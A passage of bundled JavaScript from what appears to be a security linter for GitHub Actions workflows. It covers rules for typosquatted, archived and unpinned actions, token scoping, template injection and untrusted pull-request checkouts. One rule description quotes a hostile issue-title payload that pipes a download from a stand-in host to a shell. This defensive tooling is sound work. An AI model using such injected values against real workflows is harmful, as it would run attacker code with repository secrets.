                            out.push({
                                message: `job '${job.id}' reads needs.${name}${jobIds.has(name) ? ` but does not list '${name}' in needs:` : `, and there is no job '${name}'`}`,
                                line: at.line,
                            });
                        if (root === 'matrix' && keys && !keys.has(name) && p.length >= 2)
                            out.push({ message: `job '${job.id}' reads matrix.${name}, which its matrix does not define`, line: at.line });
                        if (root === 'steps' && stepIndex !== undefined) {
                            const target = job.steps.find((s) => s.id === name);
                            if (!target)
                                out.push({ message: `job '${job.id}' reads steps.${name}, and no step has that id`, line: at.line });
                            else if (target.index >= stepIndex)
                                out.push({ message: `step ${stepIndex + 1} of '${job.id}' reads steps.${name}, which runs later`, line: at.line });
                        }
                    }
                }
            };
            // Steps see only the steps before them; job-level keys (outputs, if) are checked without order.
            job.steps.forEach((s) => scan(s.node, s.index));
            for (const key of [
                'if',
                'runs-on',
                'env',
                'container',
                'services',
                'environment',
                'concurrency',
                'timeout-minutes',
                'continue-on-error',
                'with',
                'secrets',
            ])
                scan(child(job.node, key), undefined);
            const outputs = child(job.node, 'outputs');
            for (const { node: at, source } of expressionsIn(outputs, false)) {
                const e = parseExpression(source);
                if (!e)
                    continue;
                for (const p of readPaths(e))
                    if (p[0] === 'steps' && p[1] && !job.steps.some((s) => s.id === p[1]))
                        out.push({ message: `an output of job '${job.id}' reads steps.${p[1]}, and no step has that id`, line: at.line });
            }
        }
        return out;
    },
};
/** `exclude:` entries naming keys that no matrix axis has: they exclude nothing. */
const matrixKeysRule = {
    id: 'matrix-keys',
    title: 'Matrix exclude names a key or value the matrix does not have',
    severity: 'medium',
    confidence: 'high',
    category: 'validation',
    description: 'An exclude entry matches only combinations of existing axes and values; a misspelt key or value excludes nothing and the combination still runs.',
    fix: 'Use the axis names and values of the matrix in exclude entries.',
    appliesTo: ['workflow'],
    check(model) {
        const out = [];
        for (const job of model.jobs) {
            const m = job.matrix;
            if (m?.kind !== 'map')
                continue;
            const axes = new Map();
            for (const [k, v] of entries(m)) {
                if (k === 'include' || k === 'exclude')
                    continue;
                const values = v.kind === 'seq' ? new Set(v.items.map((i) => (i.kind === 'scalar' ? String(i.value) : JSON.stringify(i)))) : undefined;
                axes.set(k, values);
            }
            for (const ex of items(child(m, 'exclude'))) {
                for (const [k, v] of entries(ex)) {
                    if (!axes.has(k))
                        out.push({ message: `an exclude of job '${job.id}' names '${k}', which is not an axis of the matrix`, line: ex.line });
                    else {
                        const values = axes.get(k);
                        const value = v.kind === 'scalar' ? String(v.value) : undefined;
                        if (values && value !== undefined && !value.includes('${{') && !values.has(value))
                            out.push({ message: `an exclude of job '${job.id}' names ${k}: ${value}, which is not a value of that axis`, line: v.line });
                    }
                }
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/supply-chain.ts




/** Actions from repositories GitHub has archived (known list; the online audit asks the API). */
const archivedUses = {
    id: 'archived-uses',
    title: 'Action from an archived repository',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: 'An archived repository is read-only: vulnerabilities found in the action (or the dependencies it vendors) are never fixed.',
    fix: 'Replace the action with a maintained one, or with the command it wraps.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const { uses, line } of usesOf(model)) {
            if (!remoteUses(uses))
                continue;
            const repo = actionRepo(uses);
            const instead = ARCHIVED[repo];
            if (instead !== undefined)
                out.push({ message: `${repo} is archived${instead ? `; use ${instead}` : ''}`, line });
        }
        return out;
    },
};
/** Actions whose job the runner's own tools do in one line. */
const superfluousActions = {
    id: 'superfluous-actions',
    title: "Action that the runner's own tools replace",
    severity: 'low',
    confidence: 'medium',
    category: 'hygiene',
    description: "Every third-party action is code with access to the job's token; when `gh`, `docker` or `jq` on the runner does the same in one line, the action only adds risk.",
    fix: "Replace the step with a run: step using the runner's tool.",
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                const advice = step.uses ? SUPERFLUOUS[actionName(step.uses)] : undefined;
                if (advice)
                    out.push({ message: `${actionName(step.uses ?? '')}: ${advice}`, line: step.usesLine });
            }
        return out;
    },
};
/** Setup actions told to install the latest version of a tool. */
const unpinnedTools = {
    id: 'unpinned-tools',
    title: 'Tool installed at whatever version is latest',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: 'A setup action asked for `latest` installs whatever was released last, including a compromised release, the next time the job runs.',
    fix: "Name the tool's exact version in the input.",
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                const known = step.uses ? UNPINNED_TOOLS[actionName(step.uses)] : undefined;
                if (!known)
                    continue;
                const v = withValue(step, known.input);
                if (v === undefined && known.defaultUnpinned)
                    out.push({ message: `${actionName(step.uses ?? '')} without '${known.input}' installs the latest release`, line: step.usesLine });
                else if (v !== undefined && known.latest.test(v.trim()))
                    out.push({
                        message: `${actionName(step.uses ?? '')} '${known.input}: ${v}' installs the latest release`,
                        line: child(step.with, known.input)?.line ?? step.usesLine,
                    });
            }
        return out;
    },
};
const ADHOC = [
    { re: /\bgem install\s+(?!-)(?![^\n]*\s(-v|--version)\b)[\w-]+/, what: 'gem install without a version' },
    {
        re: /\b(pip3?|python3? -m pip) install\s+(?![^\n]*(-r |--requirement|-e |\.\s|\.$|\.\[|==))(?:-U\s+|--upgrade\s+|--user\s+)*[A-Za-z][\w.-]*(\s|$)/,
        what: 'pip install without a version or lockfile',
    },
    { re: /\bnpm (i|install) (-g|--global) (?![^\n]*@\d)[\w@/-]+/, what: 'a global npm install without a version' },
    { re: /\bgo install [^\s@]+@latest\b/, what: 'go install @latest' },
    { re: /\bcargo install (?![^\n]*--(version|locked))[\w-]+/, what: 'cargo install without --version or --locked' },
];
/** Packages installed by name in scripts, outside any lockfile. */
const adhocPackages = {
    id: 'adhoc-packages',
    title: 'Package installed in a script without a pinned version',
    severity: 'low',
    confidence: 'medium',
    category: 'security',
    description: 'A package installed by name takes whatever the registry serves that day (a typosquat, a compromised release); a lockfile or an exact version decides what runs.',
    fix: 'Pin the exact version (`pip install tool==1.2.3`, `gem install tool -v 1.2.3`) or install from a lockfile.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                if (step.run === undefined)
                    continue;
                for (const a of ADHOC)
                    if (a.re.test(step.run))
                        out.push({ message: `a step of '${job.id}' runs ${a.what}`, line: step.runLine });
            }
        return out;
    },
};
const TOKEN_ENV = /^(TWINE_PASSWORD|NODE_AUTH_TOKEN|NPM_TOKEN|CARGO_REGISTRY_TOKEN|GEM_HOST_API_KEY|PYPI_TOKEN|PYPI_API_TOKEN)$/;
/** Publishing to PyPI, npm, crates.io or RubyGems with a long-lived token where OIDC trusted publishing exists. */
const useTrustedPublishing = {
    id: 'use-trusted-publishing',
    title: 'Package published with a long-lived token',
    severity: 'low',
    confidence: 'high',
    category: 'security',
    description: 'PyPI, npm, crates.io and RubyGems accept short-lived OIDC tokens from a named workflow (trusted publishing); a stored API token works from anywhere for as long as it lives.',
    fix: 'Configure trusted publishing on the registry, give the job `permissions: { id-token: write }` and drop the token.',
    appliesTo: ['workflow'],
    check(model) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                const pub = step.uses ? PUBLISHERS[actionName(step.uses)] : undefined;
                const input = pub?.tokenInputs.find((i) => withValue(step, i)?.includes('secrets.'));
                if (pub && input)
                    out.push({
                        message: `${actionName(step.uses ?? '')} publishes to ${pub.registry} with a stored token ('${input}')`,
                        line: child(step.with, input)?.line ?? step.usesLine,
                    });
                if (step.run !== undefined &&
                    /\b(twine upload|npm publish|pnpm publish|yarn npm publish|cargo publish|gem push)\b/.test(step.run)) {
                    const envs = [step.env, job.env, model.env].flatMap((e) => entries(e));
                    const token = envs.find(([k, v]) => TOKEN_ENV.test(k) && (yaml_tree_text(v) ?? '').includes('secrets.'));
                    if (token)
                        out.push({ message: `a step of '${job.id}' publishes with ${token[0]} from a secret`, line: step.runLine });
                }
            }
        return out;
    },
};
/** actions/create-github-app-token without scoping: every permission of the app, on every repository. */
const githubApp = {
    id: 'github-app',
    title: "GitHub App token with the app's full permissions",
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'Without `permission-<scope>` inputs the token gets every permission the app was installed with; with `owner` but no `repositories` it reaches every repository of the installation; `skip-token-revoke` keeps it valid after the job.',
    fix: 'Add the `permission-<scope>` inputs the job needs, name the `repositories`, and let the action revoke the token.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                if (!step.uses || actionName(step.uses) !== 'actions/create-github-app-token')
                    continue;
                const inputs = entries(step.with).map(([k]) => k);
                if (!inputs.some((k) => k.startsWith('permission-')))
                    out.push({ message: `the app token of job '${job.id}' gets every permission of the installation`, line: step.usesLine });
                if (inputs.includes('owner') && !inputs.includes('repositories'))
                    out.push({
                        message: `the app token of job '${job.id}' reaches every repository of '${withValue(step, 'owner') ?? ''}'`,
                        line: child(step.with, 'owner')?.line ?? step.usesLine,
                    });
                if (withValue(step, 'skip-token-revoke') === 'true')
                    out.push({
                        message: `the app token of job '${job.id}' is not revoked after the job`,
                        line: child(step.with, 'skip-token-revoke')?.line ?? step.usesLine,
                    });
            }
        return out;
    },
};
/** `./path` where `$/path` says the same repository explicitly. */
const selfRepository = {
    id: 'self-repository',
    title: 'Local uses: without the same-repository syntax',
    severity: 'low',
    confidence: 'low',
    category: 'hygiene',
    description: "`uses: $/path@ref` names this repository explicitly; `./path` reads whatever the job checked out there, which is a fork's code after a checkout of the PR head.",
    fix: 'Write `uses: $/path/to/action@<ref>`.',
    appliesTo: ['workflow'],
    check(model) {
        return usesOf(model)
            .filter((u) => u.uses.startsWith('./'))
            .map((u) => ({ message: `'${u.uses}' reads the checked-out tree`, line: u.line }));
    },
};
/** Uses the organisation forbids (configured patterns). */
const forbiddenUses = {
    id: 'forbidden-uses',
    title: 'Forbidden action',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'The organisation forbids these actions (the `forbidden-uses` option).',
    fix: 'Replace the action with an allowed one.',
    appliesTo: ['workflow', 'action'],
    check(model, options) {
        const patterns = (options.forbiddenUses ?? []).map((p) => p.toLowerCase());
        if (patterns.length === 0)
            return [];
        const out = [];
        for (const { uses, line } of usesOf(model)) {
            const name = actionName(uses);
            const hit = patterns.find((p) => (p.endsWith('/*') ? name.startsWith(p.slice(0, -1)) : name === p || name.startsWith(`${p}/`)));
            if (hit)
                out.push({ message: `'${uses}' matches the forbidden pattern '${hit}'`, line });
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/template-injection.ts




/** The finding for one expression in code, or undefined when nothing an outsider writes reaches it. */
function judgeExpression(source, scope, exposure) {
    const parsed = templateExpressions(`\${{ ${source} }}`)[0]?.parsed;
    if (!parsed)
        return undefined;
    const origin = worst(expressionSources(parsed, scope));
    if (!origin || origin.taint !== 'free')
        return undefined;
    const severity = injectionSeverity(origin.taint, exposure);
    return severity ? { severity, confidence: origin.confidence, origin } : undefined;
}
/** An environment variable name for an expression, for the fix text. */
function envName(expression) {
    return (expression
        .replace(/^.*\.(?=[\w-]+$)/, '')
        .replace(/[^\w]+/g, '_')
        .replace(/^_+|_+$/g, '')
        .slice(0, 30)
        .toUpperCase() || 'VALUE');
}
/** `${{ }}` whose value an outsider writes, expanded inside code: run: scripts, github-script, script inputs of well-known actions. */
const templateInjection = {
    id: 'template-injection',
    title: 'Outsider-controlled expression expanded inside code',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'Expressions are substituted into the script text before the shell (or JavaScript, or the remote shell) parses it, so an issue title such as `"; curl evil | sh; #` becomes code. Only values an outsider writes freely are reported (titles, bodies, branch names, commit messages, comments), followed through static env and matrix values; numbers, SHAs, booleans and secrets cannot carry code.',
    fix: 'Move the expression into `env:` and reference the variable (`"$TITLE"`) in the script.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs) {
            for (const step of job.steps) {
                const sinks = codeSinks(step);
                if (sinks.length === 0)
                    continue;
                const scope = stepScope(model, job, step);
                for (const sink of sinks) {
                    for (const e of templateExpressions(sink.value)) {
                        if (!e.parsed)
                            continue;
                        const verdict = judgeExpression(e.source, scope, model.exposure);
                        if (!verdict)
                            continue;
                        const name = envName(e.source);
                        out.push({
                            message: `\${{ ${e.source} }} carries ${verdict.origin.path}, which an outsider writes, into ${sink.where}${model.exposure === 'privileged' ? ` of a workflow triggered by ${[...model.triggers.keys()].join(', ')}` : ''}`,
                            line: lineWithin(model, sink.node, sink.value, e.start),
                            severity: verdict.severity,
                            confidence: verdict.confidence,
                            fix: `Pass it through the environment: \`env: { ${name}: \${{ ${e.source} }} }\` and use "$${name}" in the script.`,
                        });
                    }
                }
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/typosquat-uses.ts



/** Damerau-Levenshtein distance, capped: only 0, 1 and "more" matter here. */
function near(a, b) {
    if (a === b || Math.abs(a.length - b.length) > 1)
        return false;
    if (a.length === b.length) {
        const diff = [...a].map((c, i) => (c === b[i] ? -1 : i)).filter((i) => i >= 0);
        if (diff.length === 1)
            return true;
        const [i, j] = diff;
        return diff.length === 2 && i !== undefined && j === i + 1 && a[i] === b[j] && a[j] === b[i];
    }
    const [short, long] = a.length < b.length ? [a, b] : [b, a];
    for (let i = 0; i < long.length; i += 1)
        if (long.slice(0, i) + long.slice(i + 1) === short)
            return true;
    return false;
}
const POPULAR = new Set(POPULAR_ACTIONS);
/** The popular action a repository name is one typo away from, if any. */
const squats = new Map();
function typosquatOf(slug) {
    if (POPULAR.has(slug))
        return undefined;
    if (squats.has(slug))
        return squats.get(slug);
    const bare = slug.replace(/[-_.]/g, '');
    const found = POPULAR_ACTIONS.find((p) => near(slug, p) || bare === p.replace(/[-_.]/g, ''));
    if (squats.size > 10_000)
        squats.clear();
    squats.set(slug, found);
    return found;
}
/** `uses:` of a repository one typo away from a popular action (`actons/checkout`). */
const typosquatUses = {
    id: 'typosquat-uses',
    title: 'Action name one typo away from a popular action',
    severity: 'high',
    confidence: 'medium',
    category: 'security',
    description: 'Attackers register repositories named like popular actions with one letter changed; a workflow that makes the typo runs their code with its token and secrets. With a token, the online audit checks that the look-alike repository exists and raises the confidence.',
    fix: 'Correct the name to the action you meant.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const { uses, line } of usesOf(model)) {
            const r = remoteUses(uses);
            if (!r)
                continue;
            const of = typosquatOf(`${r.owner}/${r.repo}`);
            if (of)
                out.push({ message: `'${r.owner}/${r.repo}' is one typo away from ${of}`, line });
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/untrusted-checkout.ts

// Refs, repositories and run ids that point at code or files a pull request's author wrote.
const UNTRUSTED_REF = /github\.event\.pull_request\.head\.(sha|ref|repo)|github\.head_ref|github\.event\.workflow_run\b|refs\/pull\/|github\.event\.(number|pull_request\.number|issue\.number)\b|github\.event\.issue\.pull_request|github\.event\.comment\b/;
/** True when an input's expressions read the pull request's head (or the run that a fork triggered). */
function pointsAtHead(value) {
    if (!value)
        return false;
    if (UNTRUSTED_REF.test(value))
        return true;
    // `steps.pr.outputs.head_sha` and the like: a head ref resolved earlier in the job.
    return /\$\{\{[^}]*\b(steps|needs)\.[\w-]+\.outputs\.[\w-]*(head|sha|ref|pr)[\w-]*/i.test(value);
}
/** True when a step brings the PR's code or artifacts into the privileged job. */
function fetchesUntrusted(step) {
    const name = step.uses ? actionName(step.uses) : '';
    if (name === 'actions/checkout')
        return pointsAtHead(withValue(step, 'ref')) || pointsAtHead(withValue(step, 'repository'));
    if (name === 'actions/download-artifact' || name === 'dawidd6/action-download-artifact')
        return pointsAtHead(withValue(step, 'run-id') ?? withValue(step, 'run_id')) || name === 'dawidd6/action-download-artifact';
    return (step.run !== undefined &&
        /\bgh pr checkout\b|git (fetch|checkout|pull)\b[^\n]*(pull\/|head_ref|head\.sha|head\.ref|\$\{\{\s*github\.event)/.test(step.run));
}
/** Steps after the fetch that execute what was fetched: scripts, local actions, build tools. */
function executes(step) {
    return step.run !== undefined || (step.uses?.startsWith('./') ?? false);
}
const PRIVILEGED = ['pull_request_target', 'workflow_run', 'issue_comment'];
/** Privileged jobs that check out and run the pull request's code. */
const untrustedCheckout = {
    id: 'untrusted-checkout',
    title: 'Privileged trigger checks out and runs untrusted code',
    severity: 'critical',
    confidence: 'high',
    category: 'security',
    description: "pull_request_target, workflow_run and issue_comment jobs run with the base repository's secrets and a write token. Checking out the PR head (or downloading its artifacts) and then running a script, a build or a local action executes the attacker's code with those privileges (the 'pwn request' behind many supply-chain incidents).",
    fix: 'Run untrusted code under `pull_request` (no secrets, read-only token). If the privileged job needs PR data, pass it as an artifact and treat it as data, never execute it.',
    appliesTo: ['workflow'],
    check(model) {
        const privileged = PRIVILEGED.filter((t) => model.triggers.has(t));
        if (privileged.length === 0)
            return [];
        const out = [];
        for (const job of model.jobs) {
            const at = job.steps.findIndex(fetchesUntrusted);
            if (at < 0)
                continue;
            const step = job.steps[at];
            if (!step)
                continue;
            const runsIt = job.steps.slice(at + (step.run !== undefined ? 0 : 1)).some(executes);
            out.push({
                message: `job '${job.id}' (on ${privileged.join(', ')}) fetches the pull request's code${runsIt ? ' and then runs it' : ''} with the base repository's secrets`,
                line: step.line,
                severity: runsIt ? 'critical' : 'high',
                confidence: runsIt ? 'high' : 'medium',
            });
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/rule.ts
const SEVERITIES = ['critical', 'high', 'medium', 'low'];
const CONFIDENCES = ['high', 'medium', 'low'];

;// CONCATENATED MODULE: ./packages/workflows/src/rules/index.ts

























/** Every offline rule, in the order reports list them. */
const RULES = [
    unpinnedUses,
    unpinnedImage,
    permissionsMissing,
    permissionsBroad,
    templateInjection,
    githubEnv,
    untrustedCheckout,
    dangerousTriggers,
    cachePoisoning,
    persistCredentials,
    secretsInherit,
    overprovisionedSecrets,
    unredactedSecrets,
    secretsOutsideEnv,
    insecureCommands,
    botConditions,
    unsoundCondition,
    unsoundContains,
    unsoundTernary,
    obfuscation,
    hardcodedContainerCredentials,
    typosquatUses,
    knownVulnerableActions,
    archivedUses,
    useTrustedPublishing,
    githubApp,
    unpinnedTools,
    adhocPackages,
    superfluousActions,
    forbiddenUses,
    selfRepository,
    misfeature,
    anonymousDefinition,
    concurrencyLimits,
    undocumentedPermissions,
    selfHostedPullRequest,
    concurrencyDeadlock,
    missingTimeout,
    constantCondition,
    unknownReference,
    matrixKeysRule,
    deprecatedCommands,
    globFilters,
    actionInputs,
];

;// CONCATENATED MODULE: ./packages/workflows/src/online/online-rules.ts
const online = (rule) => ({
    ...rule,
    category: 'security',
    appliesTo: ['workflow', 'action'],
    // Online rules run in online-audit.ts against the GitHub API, not on the file alone.
    check: () => [],
});
/** Rules that need the GitHub API (run with `--online` and a token); listed so they can be suppressed and described. */
const ONLINE_RULES = [
    online({
        id: 'impostor-commit',
        title: 'Pinned commit that is not in the action repository',
        severity: 'critical',
        confidence: 'high',
        description: "GitHub serves a fork's commits under the parent's name: `uses: owner/action@<sha>` runs a commit an attacker pushed to any fork if no branch or tag of owner/action contains it (impostor commits, 2023).",
        fix: "Pin to a commit of one of the repository's own tags or branches.",
    }),
    online({
        id: 'ref-confusion',
        title: 'Ref that names both a branch and a tag',
        severity: 'medium',
        confidence: 'high',
        description: 'When `v1` is both a branch and a tag, whoever can push a branch decides which one GitHub resolves.',
        fix: 'Pin to a commit SHA.',
    }),
    online({
        id: 'ref-version-mismatch',
        title: 'Version comment that does not match the pinned commit',
        severity: 'low',
        confidence: 'high',
        description: 'Dependabot and reviewers read the `# vX.Y.Z` comment; when the tag points elsewhere, the comment misstates what runs and updates stop.',
        fix: 'Correct the comment (or re-pin with `slipway audit --fix`).',
    }),
    online({
        id: 'stale-action-refs',
        title: 'Pinned commit that no tag points at',
        severity: 'low',
        confidence: 'low',
        description: 'A commit between releases may carry fixed-but-unreleased bugs and has no changelog.',
        fix: 'Pin to the commit of a release tag.',
    }),
];

;// CONCATENATED MODULE: ./packages/workflows/src/suppressions.ts


const MARKER = /#\s*slipway-audit:\s*(.*)$/;
const KNOWN = new Set([...RULES, ...ONLINE_RULES].map((r) => r.id));
/** Reads every suppression comment of a file; ones without a reason or with an unknown rule are problems. */
function readSuppressions(lines) {
    const suppressions = [];
    const problems = [];
    lines.forEach((text, i) => {
        const m = MARKER.exec(text);
        if (!m)
            return;
        const line = i + 1;
        // Text after a further ` #` is another comment, not part of the suppression.
        const body = (m[1] ?? '').split(/\s#/)[0]?.trim() ?? '';
        const parsed = /^(ignore|ignore-file)\s+([a-z0-9-]+)\s*(?:--\s*(.*))?$/.exec(body);
        if (!parsed) {
            problems.push({ line, message: `cannot read '${body}'; write '# slipway-audit: ignore <rule-id> -- <reason>'` });
            return;
        }
        const [, verb, rule = '', reason = ''] = parsed;
        if (!KNOWN.has(rule)) {
            problems.push({ line, message: `'${rule}' is not a rule; rules are ${[...KNOWN].join(', ')}` });
            return;
        }
        if (reason.trim().length < 3) {
            problems.push({
                line,
                message: `the suppression of ${rule} has no reason; write '# slipway-audit: ignore ${rule} -- <why this is safe>'`,
            });
            return;
        }
        suppressions.push({ rule, reason: reason.trim(), line, scope: verb === 'ignore-file' ? 'file' : 'line' });
    });
    return { suppressions, problems };
}
/** The lines a line-scoped suppression covers: its own, and the first non-comment line below its comment block. */
function coveredLines(s, lines) {
    const out = [s.line];
    let next = s.line + 1;
    while (next <= lines.length && /^\s*#/.test(lines[next - 1] ?? ''))
        next += 1;
    if (next <= lines.length)
        out.push(next);
    return out;
}

;// CONCATENATED MODULE: ./packages/workflows/src/audit.ts







/** Rule ids of findings that are not hardening rules and can never be suppressed. */
const INVALID_FILE = 'invalid-file';
const INVALID_SUPPRESSION = 'invalid-suppression';
const CONFIDENCE_RANK = { high: 0, medium: 1, low: 2 };
/** An action's metadata file, by name; everything else audited is a workflow. */
function fileKind(path) {
    return /^action\.ya?ml$/.test((0,external_node_path_.basename)(path)) ? 'action' : 'workflow';
}
/**
 * Audits one file's text: GitHub's parser, then every hardening rule, then the file's
 * suppressions; findings below `minConfidence` are kept apart.
 */
async function auditText(file, content, options, kind = fileKind(file), extra = []) {
    const raw = [];
    const invalid = (message, line, column = 1) => ({
        rule: INVALID_FILE,
        severity: 'high',
        confidence: 'high',
        category: 'validation',
        title: kind === 'workflow' ? 'GitHub cannot parse this workflow' : 'GitHub cannot parse this action',
        message,
        fix: 'Correct the file so that GitHub accepts it; until then it does not run at all (or runs in a way nobody reviewed).',
        file,
        line,
        column,
    });
    const parsed = await parseWithGitHub(kind, file, content);
    let doc = parsed.tree;
    if (!doc) {
        try {
            doc = parseYamlTree(content, file);
        }
        catch (error) {
            if (!(error instanceof src/* UserError */.yo))
                throw error;
            const at = /:(\d+):(\d+): /.exec(error.message);
            const finding = invalid(error.message.replace(/^.*?:\d+:\d+: /, ''), Number(at?.[1] ?? 1), Number(at?.[2] ?? 1));
            return { file, kind, passed: false, findings: [finding], belowConfidence: [], suppressed: [], unusedSuppressions: [] };
        }
    }
    for (const e of parsed.errors)
        raw.push(invalid(e.message, e.line, e.column));
    const model = workflowModel(kind, doc);
    for (const rule of RULES) {
        if (!rule.appliesTo.includes(kind))
            continue;
        for (const f of rule.check(model, options)) {
            raw.push({
                rule: rule.id,
                severity: f.severity ?? rule.severity,
                confidence: f.confidence ?? rule.confidence,
                category: rule.category,
                title: rule.title,
                message: f.message,
                fix: f.fix ?? rule.fix,
                file,
                line: f.line,
                column: f.column ?? 1,
            });
        }
    }
    raw.push(...extra.filter((f) => f.file === file));
    const { suppressions, problems } = readSuppressions(doc.lines);
    for (const p of problems) {
        raw.push({
            rule: INVALID_SUPPRESSION,
            severity: 'medium',
            confidence: 'high',
            category: 'validation',
            title: 'Suppression comment that cannot be honoured',
            message: p.message,
            fix: 'Name an existing rule and say why the finding is safe to ignore.',
            file,
            line: p.line,
            column: 1,
        });
    }
    const used = new Set();
    const shown = [];
    const below = [];
    const suppressed = [];
    const min = CONFIDENCE_RANK[options.minConfidence ?? 'high'];
    for (const f of raw) {
        const match = f.rule === INVALID_FILE || f.rule === INVALID_SUPPRESSION
            ? undefined
            : suppressions.find((s) => s.rule === f.rule && (s.scope === 'file' || coveredLines(s, doc.lines).includes(f.line)));
        if (match) {
            used.add(match);
            suppressed.push({ ...f, suppression: { reason: match.reason, line: match.line } });
        }
        else if (CONFIDENCE_RANK[f.confidence] > min)
            below.push(f);
        else
            shown.push(f);
    }
    const order = (a, b) => a.line - b.line || a.rule.localeCompare(b.rule) || a.message.localeCompare(b.message);
    return {
        file,
        kind,
        passed: shown.length === 0,
        findings: shown.sort(order),
        belowConfidence: below.sort(order),
        suppressed: suppressed.sort(order),
        unusedSuppressions: suppressions.filter((s) => !used.has(s)),
    };
}

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
;// CONCATENATED MODULE: ./packages/workflows/src/collect-files.ts





const SKIP = new Set(['node_modules', '.git', 'dist']);
async function walk(dir, out) {
    for (const entry of await (0,promises_.readdir)(dir, { withFileTypes: true })) {
        if (entry.isDirectory()) {
            if (!SKIP.has(entry.name))
                await walk((0,external_node_path_.join)(dir, entry.name), out);
        }
        else if (/\.ya?ml$/.test(entry.name))
            out.push((0,external_node_path_.join)(dir, entry.name));
    }
}
/** Reads a file to audit: at most SMALL_FILE_LIMIT (a workflow has no reason to be larger). */
const readAudited = (path) => (0,src/* readTextFile */.Gu)(path, 'workflow file', { maxBytes: src/* SMALL_FILE_LIMIT */.BT });
/**
 * Refuses a named file that is not a workflow or action document at all: empty (or only
 * comments), or whose top level is not a mapping (a list, a string). GitHub's parser's errors
 * in a document of the right shape stay findings (invalid-file), each with its place.
 */
function assertDocumentShape(content, shown, kind) {
    const what = kind === 'action' ? 'an action' : 'a workflow';
    const doc = (0,yaml_dist/* parseDocument */.Tp)(content, { uniqueKeys: false });
    // A document YAML cannot read is left to the audit, which reports its errors as findings.
    if (doc.errors.length > 0)
        return;
    if (doc.contents === null || doc.contents.value === null) {
        throw new src/* UserError */.yo(`${shown} is empty, not ${what}`, {
            code: src/* errorCodes */.fv.invalidInput,
            hint: 'was the file cut short? give the workflow file itself',
        });
    }
    if (!(0,yaml_dist/* isMap */.jh)(doc.contents)) {
        throw new src/* UserError */.yo(`${shown} is not ${what}: its top level is not a mapping of keys (on:, jobs:, ...)`, {
            code: src/* errorCodes */.fv.invalidInput,
            hint: 'give a workflow file (.github/workflows/*.yml) or an action.yml',
        });
    }
}
/**
 * Expands files and folders into the workflow and action files to audit. A folder contributes
 * every YAML file that is an action's metadata or has a top-level `jobs:` (dependabot.yml and
 * other YAML are skipped); a file named explicitly is always audited. A path that cannot be read,
 * or a folder with nothing to audit, is a UserError.
 */
async function collectAuditInputs(paths, base) {
    const out = new Map();
    for (const given of paths) {
        const abs = (0,external_node_path_.resolve)(base, given);
        const info = await (0,promises_.stat)(abs).catch(() => undefined);
        if (!info)
            throw new src/* UserError */.yo(`Cannot read ${given}: it does not exist`, { hint: 'pass workflow files or folders, e.g. .github/workflows' });
        const shown = (p) => (p.startsWith(base + '/') ? (0,external_node_path_.relative)(base, p) : p);
        if (info.isFile()) {
            const content = await readAudited(abs);
            assertDocumentShape(content, given, fileKind(abs));
            out.set(abs, { file: shown(abs), kind: fileKind(abs), content });
            continue;
        }
        const found = [];
        await walk(abs, found);
        let added = 0;
        for (const file of found.sort()) {
            const content = await readAudited(file);
            const kind = fileKind(file);
            if (kind === 'workflow' && !/^jobs\s*:/m.test(content))
                continue;
            out.set(file, { file: shown(file), kind, content });
            added += 1;
        }
        if (added === 0)
            throw new src/* UserError */.yo(`${given} holds no workflow or action files`, { hint: 'workflows are YAML files with a top-level jobs: key' });
    }
    return [...out.values()];
}

;// CONCATENATED MODULE: ./packages/workflows/src/report.ts


/** Audits every input and sums the result. */
async function auditAll(inputs, options, extra = []) {
    const files = [];
    // A local call (`./.github/workflows/x.yml`) is resolved among the audited files, by path suffix.
    const readLocalWorkflow = (path) => inputs.find((i) => i.file === path || i.file.endsWith(`/${path}`))?.content;
    const readLocalAction = (path) => inputs.find((i) => i.kind === 'action' &&
        (i.file === `${path}/action.yml` || i.file.endsWith(`/${path}/action.yml`) || i.file === `${path}/action.yaml`))?.content;
    for (const input of inputs)
        files.push(await auditText(input.file, input.content, { readLocalWorkflow, readLocalAction, ...options }, input.kind, extra));
    return summarise(files);
}
/** Totals and coverage over file audits. */
function summarise(files) {
    const findings = files.flatMap((f) => f.findings);
    const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, findings.filter((f) => f.severity === s).length]));
    const byCategory = { security: 0, hygiene: 0, validation: 0 };
    for (const f of findings)
        byCategory[f.category] += 1;
    const byRule = {};
    for (const f of findings)
        byRule[f.rule] = (byRule[f.rule] ?? 0) + 1;
    const passing = files.filter((f) => f.passed).length;
    return {
        passed: findings.length === 0,
        files,
        coverage: { files: files.length, passing, percent: files.length === 0 ? 100 : Math.round((passing / files.length) * 1000) / 10 },
        counts: {
            findings: findings.length,
            suppressed: files.reduce((n, f) => n + f.suppressed.length, 0),
            belowConfidence: files.reduce((n, f) => n + f.belowConfidence.length, 0),
            bySeverity,
            byCategory,
            byRule,
        },
    };
}

;// CONCATENATED MODULE: ./packages/workflows/src/format-text.ts
/** The audit as a person reads it in a terminal: one block per finding, then the totals. */
function formatAuditText(report) {
    const out = [];
    for (const file of report.files) {
        for (const f of file.findings) {
